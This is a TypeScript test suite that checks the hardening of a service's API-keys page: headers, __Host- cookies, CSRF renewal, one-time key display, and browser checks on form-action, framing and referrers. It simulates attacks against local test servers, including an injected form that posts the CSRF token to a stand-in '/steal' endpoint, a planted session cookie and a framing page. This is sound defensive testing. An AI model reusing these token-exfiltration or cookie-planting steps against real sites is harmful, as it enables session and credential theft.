/**
 * Keys-page hardening (DESIGN §5a "Keys page headers") against the built server on loopback:
 * - the header set on every answer under /keys and on /v1/sheets/*, exactly;
 * - `__Host-` session and CSRF cookies when the base URL is https (a server whose VIDSHEET_BASE_URL is
 *   https but which listens on loopback http, as behind a TLS proxy), cleared with the same attributes;
 * - the CSRF secret renewed at sign-in; a minted key shown only to the session that minted it, and its
 *   cookie cleared by any page load;
 * - in Debian's Chromium (playwright-core): forms post only to the page itself and to Checkout,
 *   the page cannot be framed, and navigating away sends no referrer. A local "elsewhere" server on
 *   another loopback port stands for every other site and records what reaches it.
 * Codes come from the server's log (no SMTP configured); the Stripe API is a local test double.
 */
import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort } from '../../helpers/net.js';
import { removeServerDirs, startServer, type TestServer } from '../../helpers/server.js';
import { type StripeDouble, startStripeDouble } from '../../helpers/stripe-double.js';
import { type Visitor, visitor } from '../../helpers/visitor.js';

const SAMPLE = readFileSync(join(import.meta.dirname, '..', '..', '..', 'fixtures', 'sample.mp4'));
const TOKEN = /^[A-Za-z0-9_-]{43}$/;

/** Another site: records every request, serves a page that frames whatever `?src=` names. */
interface Elsewhere {
  url: string;
  seen: { method: string; path: string; headers: IncomingHttpHeaders }[];
  server: Server;
}

async function startElsewhere(): Promise<Elsewhere> {
  const seen: Elsewhere['seen'] = [];
  const server = createServer((req, res) => {
    seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    req.resume();
    const url = new URL(req.url ?? '/', 'http://x');
    res.writeHead(200, { 'content-type': 'text/html' });
    if (url.pathname === '/frame') {
      res.end(
        `<!doctype html><title>framer</title><iframe name="inner" src="${url.searchParams.get('src')}"></iframe>`,
      );
    } else {
      res.end('<!doctype html><title>elsewhere</title><p id="here">elsewhere</p>');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, server };
}

/** The code the server logged for `email` after log line `from` (no SMTP: the development log mailer). */
async function loggedCode(server: TestServer, email: string, from: number): Promise<string> {
  const line = await server.waitForLog(
    (l) => l.email === email && typeof l.code === 'string' && server.logs.indexOf(l) >= from,
  );
  return String(line.code);
}

/** Signs `v` in as `email` through the forms; returns the sign-in POST's answer (a 303). */
async function signIn(server: TestServer, v: Visitor, email: string) {
  const from = server.logs.length;
  const sent = await v.post(server.url, '/keys/code', { _csrf: (await v.get(server.url)).csrf, email });
  expect(sent.status).toBe(200);
  const code = await loggedCode(server, email, from);
  const csrf = /name="_csrf" value="([^"]+)"/.exec(sent.html)?.[1] ?? '';
  const answer = await v.post(server.url, '/keys/sign-in', { _csrf: csrf, email, code });
  expect(answer.status).toBe(303);
  return answer;
}

/** A Set-Cookie line as its name, value and attributes (names lowercased). */
function parseSetCookie(line: string) {
  const [pair, ...rest] = line.split(';').map((part) => part.trim());
  const eq = (pair as string).indexOf('=');
  const attributes = new Map<string, string>();
  for (const attribute of rest) {
    const at = attribute.indexOf('=');
    if (at < 0) attributes.set(attribute.toLowerCase(), '');
    else attributes.set(attribute.slice(0, at).toLowerCase(), attribute.slice(at + 1));
  }
  return { name: (pair as string).slice(0, eq), value: (pair as string).slice(eq + 1), attributes };
}

const cookieNamed = (lines: string[], name: string) =>
  lines.map(parseSetCookie).find((cookie) => cookie.name === name);

/**
 * What RFC 6265bis §4.1.3.2 asks of a `__Host-` cookie before a browser keeps it: Secure, Path=/ and
 * no Domain attribute.
 */
function expectHostCookie(cookie: ReturnType<typeof parseSetCookie> | undefined) {
  expect(cookie?.name.startsWith('__Host-')).toBe(true);
  expect(cookie?.attributes.has('secure')).toBe(true);
  expect(cookie?.attributes.get('path')).toBe('/');
  expect(cookie?.attributes.has('domain')).toBe(false);
}

const SELF_ONLY_CSP =
  "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

function expectPageHeaders(headers: Headers, csp: string) {
  expect(headers.get('content-security-policy')).toBe(csp);
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  expect(headers.get('referrer-policy')).toBe('no-referrer');
  expect(headers.get('x-frame-options')).toBe('DENY');
  expect(headers.get('cache-control')).toBe('no-store');
}

let elsewhere: Elsewhere;
let stripe: StripeDouble;
/** http base URL, Stripe configured (the double). */
let plain: TestServer;
/** https base URL served over loopback http, no Stripe. */
let tls: TestServer;
let tlsBase = '';
let browser: Browser;
let pageCsp = '';

beforeAll(async () => {
  elsewhere = await startElsewhere();
  stripe = await startStripeDouble();
  plain = await startServer({
    VIDSHEET_STRIPE_SECRET_KEY: 'sk_test_vidsheet',
    VIDSHEET_STRIPE_WEBHOOK_SECRET: 'whsec_test_vidsheet',
    VIDSHEET_STRIPE_API_URL: stripe.url,
  });
  const port = String(await freePort());
  tlsBase = `https://127.0.0.1:${port}`;
  tls = await startServer({ PORT: port, VIDSHEET_BASE_URL: tlsBase });
  pageCsp = `default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'self' https://checkout.stripe.com ${stripe.url}; frame-ancestors 'none'`;
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--disable-background-networking', '--disable-component-update', '--no-first-run', '--no-sandbox'],
  });
});

afterAll(async () => {
  await browser?.close();
  await plain?.stop();
  await tls?.stop();
  elsewhere?.server.closeAllConnections();
  await new Promise((resolve) => elsewhere?.server.close(resolve));
  await stripe?.close();
  removeServerDirs();
});

describe('headers', () => {
  it('every answer under /keys carries the CSP, nosniff, no-referrer and no framing, errors and redirects included', async () => {
    const v = visitor();
    const signedOut = await v.get(plain.url);
    expect(signedOut.status).toBe(200);
    expectPageHeaders(signedOut.headers, pageCsp);
    // A form without its token (403), a bad address (422), the sign-in redirect (303), the signed-in page.
    expectPageHeaders((await v.post(plain.url, '/keys/code', { email: 'a@example.com' })).headers, pageCsp);
    const bad = await v.post(plain.url, '/keys/code', { _csrf: (await v.get(plain.url)).csrf, email: 'a@b' });
    expect(bad.status).toBe(422);
    expectPageHeaders(bad.headers, pageCsp);
    expectPageHeaders((await signIn(plain, v, 'headers@example.com')).headers, pageCsp);
    const signedIn = await v.get(plain.url);
    expect(signedIn.html).toContain('Balance: 0 credits');
    expectPageHeaders(signedIn.headers, pageCsp);
    const created = await v.post(plain.url, '/keys/create-key', { _csrf: signedIn.csrf });
    expect(created.status).toBe(303);
    expectPageHeaders(created.headers, pageCsp);
  });

  it("without Stripe, forms may post to the page only: form-action 'self'", async () => {
    const page = await visitor().get(tls.url);
    expectPageHeaders(page.headers, SELF_ONLY_CSP);
  });

  it('a sheet (a capability URL) and its 404 carry no-referrer and nosniff', async () => {
    const v = visitor();
    await signIn(plain, v, 'sheets@example.com');
    await v.post(plain.url, '/keys/create-key', { _csrf: (await v.get(plain.url)).csrf });
    const key = /class="key">(vs_live_[0-9a-f]{40})</.exec((await v.get(plain.url)).html)?.[1] as string;
    const form = new FormData();
    form.append('video', new Blob([SAMPLE]), 'sample.mp4');
    const job = await fetch(`${plain.url}/v1/vidsheet`, {
      method: 'POST',
      headers: { authorization: `Bearer ${key}` },
      body: form,
    });
    expect(job.status).toBe(200);
    const { files } = (await job.json()) as { files: string[] };
    const sheet = await fetch(files[0] as string);
    expect(sheet.status).toBe(200);
    expect(sheet.headers.get('content-type')).toBe('image/jpeg');
    expect(sheet.headers.get('referrer-policy')).toBe('no-referrer');
    expect(sheet.headers.get('x-content-type-options')).toBe('nosniff');
    await sheet.arrayBuffer();
    const missing = await fetch(`${plain.url}/v1/sheets/${'A'.repeat(22)}/video.sheet-1.jpg`);
    expect(missing.status).toBe(404);
    expect(await missing.json()).toEqual({ error: 'not_found' });
    expect(missing.headers.get('referrer-policy')).toBe('no-referrer');
    expect(missing.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('cookies', () => {
  it('on an https base URL the session and CSRF cookies are __Host- cookies, and sign-out clears the session one as it was set', async () => {
    const v = visitor();
    const first = await v.get(tls.url);
    const csrfCookie = cookieNamed(first.setCookies, '__Host-vidsheet_csrf');
    expectHostCookie(csrfCookie);
    expect(csrfCookie?.attributes.has('httponly')).toBe(true);

    const signedIn = await signIn(tls, v, 'host@example.com');
    const session = cookieNamed(signedIn.setCookies, '__Host-vidsheet_session');
    expectHostCookie(session);
    expect(session?.value).toMatch(TOKEN);
    expect(session?.attributes.has('httponly')).toBe(true);
    expect(session?.attributes.get('samesite')).toBe('Lax');
    expect(session?.attributes.get('max-age')).toBe(String(30 * 24 * 3600));
    expect(signedIn.setCookies.some((line) => line.startsWith('vidsheet_session='))).toBe(false);
    expect((await v.get(tls.url)).html).toContain('Balance: 0 credits');

    // The same token under the unprefixed name (as a sibling subdomain could plant it) signs nobody in.
    const planted = visitor();
    planted.setCookie('vidsheet_session', session?.value);
    expect((await planted.get(tls.url)).html).not.toContain('Balance:');

    const out = await v.post(tls.url, '/keys/sign-out', { _csrf: (await v.get(tls.url)).csrf });
    expect(out.status).toBe(303);
    const cleared = cookieNamed(out.setCookies, '__Host-vidsheet_session');
    expectHostCookie(cleared);
    expect(cleared?.value).toBe('');
    expect(cleared?.attributes.get('max-age')).toBe('0');
  });

  it("on https a code's sign-in session is a __Host- cookie, new at every send, cleared at sign-in", async () => {
    const v = visitor();
    const values = [];
    for (let i = 0; i < 2; i++) {
      const sent = await v.post(tls.url, '/keys/code', {
        _csrf: (await v.get(tls.url)).csrf,
        email: 'codes@example.com',
      });
      expect(sent.status).toBe(200);
      const cookie = cookieNamed(sent.setCookies, '__Host-vidsheet_sign_in');
      expectHostCookie(cookie);
      expect(cookie?.attributes.has('httponly')).toBe(true);
      expect(cookie?.attributes.get('max-age')).toBe('600');
      expect(cookie?.value).toMatch(TOKEN);
      values.push(cookie?.value);
    }
    // A new session at every send: one planted before it never holds the new code.
    expect(values[0]).not.toBe(values[1]);
    // Another address, so the code read from the log is not one of the two above still on its way.
    const signedIn = await signIn(tls, v, 'codes-then@example.com');
    const cleared = cookieNamed(signedIn.setCookies, '__Host-vidsheet_sign_in');
    expectHostCookie(cleared);
    expect(cleared?.value).toBe('');
  });

  it('on an http base URL the cookies keep their plain names (browsers refuse __Host- without TLS)', async () => {
    const v = visitor();
    const first = await v.get(plain.url);
    expect(cookieNamed(first.setCookies, 'vidsheet_csrf')?.attributes.has('secure')).toBe(false);
    const session = cookieNamed((await signIn(plain, v, 'plain@example.com')).setCookies, 'vidsheet_session');
    expect(session?.value).toMatch(TOKEN);
    expect(session?.attributes.has('secure')).toBe(false);
  });

  it('the CSRF secret is renewed at sign-in: a token from before it is refused after it', async () => {
    for (const server of [plain, tls]) {
      const name = server === tls ? '__Host-vidsheet_csrf' : 'vidsheet_csrf';
      const v = visitor();
      const before = await v.get(server.url);
      const secretBefore = v.cookie(name);
      expect(secretBefore).toBeDefined();
      const signedIn = await signIn(server, v, `renew-${server === tls ? 'tls' : 'plain'}@example.com`);
      const renewed = cookieNamed(signedIn.setCookies, name);
      expect(renewed?.value).toBeTruthy();
      expect(renewed?.value).not.toBe(secretBefore);
      // The token that worked before sign-in (an attacker could have learnt it then) no longer does.
      const stale = await v.post(server.url, '/keys/create-key', { _csrf: before.csrf });
      expect(stale.status).toBe(403);
      const fresh = await v.post(server.url, '/keys/create-key', { _csrf: (await v.get(server.url)).csrf });
      expect(fresh.status).toBe(303);
    }
  });
});

describe('the new key', () => {
  const keyShown = (html: string) => /class="key">(vs_live_[0-9a-f]{40})</.exec(html)?.[1];
  const clearsNewKey = (lines: string[]) => cookieNamed(lines, 'vidsheet_new_key')?.value === '';

  it('is shown once, to the session that minted it', async () => {
    const v = visitor();
    await signIn(plain, v, 'once@example.com');
    const created = await v.post(plain.url, '/keys/create-key', { _csrf: (await v.get(plain.url)).csrf });
    expect(v.cookie('vidsheet_new_key')).toBeDefined();
    expect(created.location).toBe('/keys');
    const shown = await v.get(plain.url);
    expect(keyShown(shown.html)).toMatch(/^vs_live_[0-9a-f]{40}$/);
    expect(clearsNewKey(shown.setCookies)).toBe(true);
    expect(keyShown((await v.get(plain.url)).html)).toBeUndefined();
  });

  it('another session of the same account, given the cookie, is not shown the key, and the cookie is cleared', async () => {
    const minter = visitor();
    await signIn(plain, minter, 'shared@example.com');
    await minter.post(plain.url, '/keys/create-key', { _csrf: (await minter.get(plain.url)).csrf });
    const flashed = minter.cookie('vidsheet_new_key');
    expect(flashed).toBeDefined();

    const other = visitor();
    await signIn(plain, other, 'shared@example.com');
    other.setCookie('vidsheet_new_key', flashed);
    const page = await other.get(plain.url);
    expect(page.html).toContain('Balance: 0 credits');
    expect(keyShown(page.html)).toBeUndefined();
    expect(clearsNewKey(page.setCookies)).toBe(true);
    // The minting session still sees it, once.
    expect(keyShown((await minter.get(plain.url)).html)).toMatch(/^vs_live_/);
  });

  it('a signed-out page load clears it: the next person to sign in on that browser never sees it', async () => {
    const v = visitor();
    await signIn(plain, v, 'first-person@example.com');
    const { csrf } = await v.get(plain.url);
    await v.post(plain.url, '/keys/create-key', { _csrf: csrf });
    // Signed out before the page showed the key (the redirect never followed).
    await v.post(plain.url, '/keys/sign-out', { _csrf: csrf });
    expect(v.cookie('vidsheet_new_key')).toBeDefined();
    const signedOut = await v.get(plain.url);
    expect(signedOut.html).not.toContain('Balance:');
    expect(clearsNewKey(signedOut.setCookies)).toBe(true);
    expect(v.cookie('vidsheet_new_key')).toBeUndefined();
    await signIn(plain, v, 'second-person@example.com');
    const next = await v.get(plain.url);
    expect(next.html).toContain('Signed in as second-person@example.com');
    expect(keyShown(next.html)).toBeUndefined();
  });
});

describe('in a real browser', () => {
  /** A fresh context signed in through the page, with the code from the server's log. */
  async function signedInPage(email: string): Promise<Page> {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${plain.url}/keys`);
    const from = plain.logs.length;
    await page.getByLabel('Email').fill(email);
    await page.getByRole('button', { name: 'Send code' }).click();
    await page.getByLabel('Code').fill(await loggedCode(plain, email, from));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => page.getByText(/^Balance: \d+ credits$/).count()).toBe(1);
    return page;
  }

  it('forms post to the page and to Checkout only: a form aimed elsewhere is blocked, Buy still reaches Checkout', async () => {
    const page = await signedInPage('forms@example.com');
    const violations: string[] = [];
    await page.exposeFunction('reportViolation', (directive: string) => violations.push(directive));
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', (e) =>
        (window as unknown as { reportViolation(d: string): void }).reportViolation(e.effectiveDirective),
      );
    });
    // An injected form (as markup injection would add) posting the CSRF token elsewhere.
    await page.evaluate((target) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${target}/steal`;
      const field = document.querySelector('input[name="_csrf"]')?.cloneNode() as Node;
      form.appendChild(field);
      document.body.appendChild(form);
      form.submit();
    }, elsewhere.url);
    await expect.poll(() => violations).toContain('form-action');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(elsewhere.seen.filter((r) => r.path === '/steal')).toEqual([]);
    expect(page.url()).toBe(`${plain.url}/keys`);

    // A fresh load (the blocked submission leaves a navigation that never ends), then the Buy button:
    // its POST answers 303 to Checkout, a redirect the browser holds to form-action as well.
    await page.goto(`${plain.url}/keys`);
    await page.getByRole('button', { name: /^Buy 30 credits/ }).click();
    await page.waitForURL(`${stripe.url}/pay/**`);
    expect(await page.getByRole('heading', { name: 'Stripe test checkout' }).count()).toBe(1);
    await page.context().close();
  });

  it('another site cannot frame the page', async () => {
    const page = await (await browser.newContext()).newPage();
    // Control: the framing page works for a page that allows it.
    await page.goto(`${elsewhere.url}/frame?src=${encodeURIComponent(`${elsewhere.url}/plain`)}`);
    await expect.poll(() => page.frame({ name: 'inner' })?.locator('#here').count()).toBe(1);

    await page.goto(`${elsewhere.url}/frame?src=${encodeURIComponent(`${plain.url}/keys`)}`);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    // The frame holds the browser's own error page, not the keys page.
    const inner = page.frame({ name: 'inner' });
    expect(inner?.url()).not.toContain(plain.url);
    expect(await inner?.getByText('vidsheet API keys and credits').count()).toBe(0);
    await page.context().close();
  });

  it('leaving the page for another site sends no referrer', async () => {
    const page = await signedInPage('referrer@example.com');
    await page.goto(`${plain.url}/keys?page=1`);
    await page.evaluate((target) => {
      window.location.href = `${target}/next`;
    }, elsewhere.url);
    await page.waitForURL(`${elsewhere.url}/next`);
    const visit = elsewhere.seen.find((r) => r.path === '/next');
    expect(visit).toBeDefined();
    expect(visit?.headers.referer).toBeUndefined();
    await page.context().close();
  });
});
